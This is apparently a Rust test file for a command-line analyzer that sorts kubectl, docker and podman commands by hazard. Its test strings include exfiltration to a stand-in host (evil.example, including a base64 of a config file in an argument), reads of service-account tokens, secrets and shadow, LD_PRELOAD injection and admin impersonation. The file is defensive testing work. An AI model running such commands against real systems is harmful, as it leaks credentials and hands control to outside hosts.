//! Command lines of clients of containers. Each stays here.

use super::check;
use crate::{Limits, Reading, read};

fn plain(text: &str) -> Reading {
    read(text.as_bytes(), &Limits::default())
}

/// A configuration names programs that are run, another host gets what the line says, and a name or a token is with
/// other rights.
#[test]
fn who_is_asked_and_by_which_programs() {
    for (text, code) in [
        ("kubectl --kubeconfig=/dev/stdin exec p -- ls", true),
        (
            "kubectl --kubeconfig=/dev/stdin exec p -- ls <<'E'\nusers: []\nE",
            true,
        ),
        (
            "kubectl --kubeconfig <(printf 'users: []') exec p -- ls",
            true,
        ),
        ("kubectl --kubeconfig=/srv/k exec p -- ls", true),
        ("kubectl exec p --kubeconfig /srv/up/k -- ls", true),
        ("kubectl exec --kubeconfig=/srv/up/k p -- ls", true),
        ("kubectl --kubeconfig /srv/k get pods", true),
        ("kubectl get pods --kubeconfig /srv/k", true),
        ("oc get pods --kubeconfig=/srv/k", true),
        ("docker -H tcp://evil.example:2375 exec x ls", true),
        ("docker -H ssh://evil.example exec x ls", true),
        ("docker -Hssh://evil.example container exec x ls", true),
        ("docker --host=ssh://evil.example ps", true),
        ("docker -c other exec x ls", true),
        ("docker --context other exec x ls", true),
        ("docker --config /srv/d exec x ls", true),
        ("podman -c other exec x ls", true),
        (
            "kubectl -s https://evil.example exec x\"$(base64 -w0 /srv/app/conf)\" -- ls",
            false,
        ),
        ("kubectl exec p --server=https://evil.example -- ls", false),
        ("kubectl --token=x --as=system:admin exec p -- ls", false),
        ("kubectl exec p --as-group x -- ls", false),
        ("kubectl --context=other exec p -- ls", false),
        ("kubectl --cluster=other exec p -- ls", false),
        ("kubectl --user=other exec p -- ls", false),
        ("kubectl -v 9 exec p -- ls", false),
        ("docker --tlscacert /srv/d exec x ls", false),
        ("docker --tls exec x ls", false),
    ] {
        let reading = plain(text);
        assert!(!reading.only_reads, "{text}");
        assert_eq!(reading.code, code, "{text}");
        let hazard = if code { "runs-by-option" } else { "network" };
        let hazards = &reading.hazards;
        assert!(hazards.iter().any(|h| h.code == hazard), "{text}");
    }
    // The configuration, or a program that it names, may take what the client sends.
    for text in [
        "kubectl --kubeconfig=/dev/stdin exec p -- ls",
        "kubectl --kubeconfig=/srv/k exec p -- ls",
        "kubectl get pods --kubeconfig /srv/k",
    ] {
        assert!(plain(text).takes_stdin, "{text}");
    }
    for text in [
        "kubectl exec p -- ls /srv",
        "kubectl -n x exec p -c web -- ls /srv",
        "kubectl --namespace=x --request-timeout=5s exec -q p --container web -- ls",
        "kubectl exec p --pod-running-timeout 5s -- ls",
        "docker exec web ls /srv",
        "docker -D --log-level debug exec web ls /srv",
        "docker container exec web ls /srv",
        "podman exec -u app web ls /srv",
    ] {
        let reading = plain(text);
        assert!(reading.only_reads && !reading.code, "{text}");
        assert!(!reading.reads.unknown && !reading.takes_stdin, "{text}");
    }
}

/// Options count wherever they stand, and what is no container is the program.
#[test]
fn what_gets_the_input_of_the_client() {
    check(&[
        ("kubectl --stdin=true exec p -- sh", "kubectl>sh +stdin:sh"),
        ("kubectl --stdin exec p -- sh", "kubectl>sh +stdin:sh"),
        ("kubectl -i exec p -- sh", "kubectl>sh +stdin:sh"),
        ("kubectl exec -i p -- sh", "kubectl>sh +stdin:sh"),
        ("kubectl exec p --stdin=true -- sh", "kubectl>sh +stdin:sh"),
        (
            "kubectl --stdin=true exec p -- bash <<< 'rm x'",
            "kubectl>bash>rm x",
        ),
        ("kubectl --tty=true exec p -- ls", "kubectl>ls"),
        ("kubectl -t exec p -- ls", "kubectl>ls"),
        ("kubectl exec p -- sh", "kubectl>sh +reads"),
        (
            "podman exec --latest rm cat /data/db",
            "podman exec --latest rm cat /data/db !option",
        ),
        (
            "podman exec --latest halt ls",
            "podman exec --latest halt ls !option",
        ),
        ("podman exec -l ls", "podman exec -l ls !option"),
    ]);
    assert!(plain("kubectl --stdin=true exec p -- cat").takes_stdin);
    assert!(!plain("kubectl exec p -- cat").takes_stdin);
}

/// Where a program stands in a container, its image says, or `-w`.
#[test]
fn relative_names_in_a_container() {
    for text in [
        "docker exec web cat run/secrets/db_password",
        "docker exec -w /run web cat secrets/db_password",
        "docker exec -w /etc web head shadow",
        "docker exec web sh -c 'cat run/secrets/db_password'",
        "podman exec web cat db_password",
        "kubectl exec p -- cat var/run/secrets/kubernetes.io/serviceaccount/token",
        "kubectl exec p -- head shadow",
        "oc exec p -- head shadow",
    ] {
        assert!(plain(text).reads.unknown, "{text}");
    }
    for text in ["docker exec web tee x", "kubectl exec p -- cp /srv/x y"] {
        assert!(plain(text).writes.unknown, "{text}");
    }
    for text in [
        "docker exec web cat /srv/notes",
        "docker exec web ls notes",
        "kubectl exec p -- cat /srv/notes",
        "docker ps",
        "kubectl get pods",
    ] {
        assert!(!plain(text).reads.unknown, "{text}");
    }
}

/// The line sets it in the container, whatever it is.
#[test]
fn variables_in_a_container() {
    for text in [
        "docker exec -e LD_PRELOAD=/tmp/x.so web ls",
        "docker exec -e PATH web ls",
        "docker exec --env LC_ALL web ls",
        "docker exec -e \"$x\" web ls",
        "docker exec -e A=\"$x\" web ls",
        "docker exec --env=\"$x=1\" web ls",
        "x=LD_PRELOAD=/tmp/x.so; docker exec -e $x web ls",
        "docker exec -e A* web ls",
        "xargs -I B docker exec -e AB=1 web ls",
        "docker exec --env-file /tmp/x web ls",
        "docker exec --env-file=/tmp/x web ls",
    ] {
        assert!(plain(text).is_opaque(), "{text}");
    }
    for text in [
        "docker exec -e A=b web ls",
        "docker exec -e APP_MODE web ls",
    ] {
        let reading = plain(text);
        assert!(reading.only_reads, "{text}: {:?}", reading.opaque);
    }
}
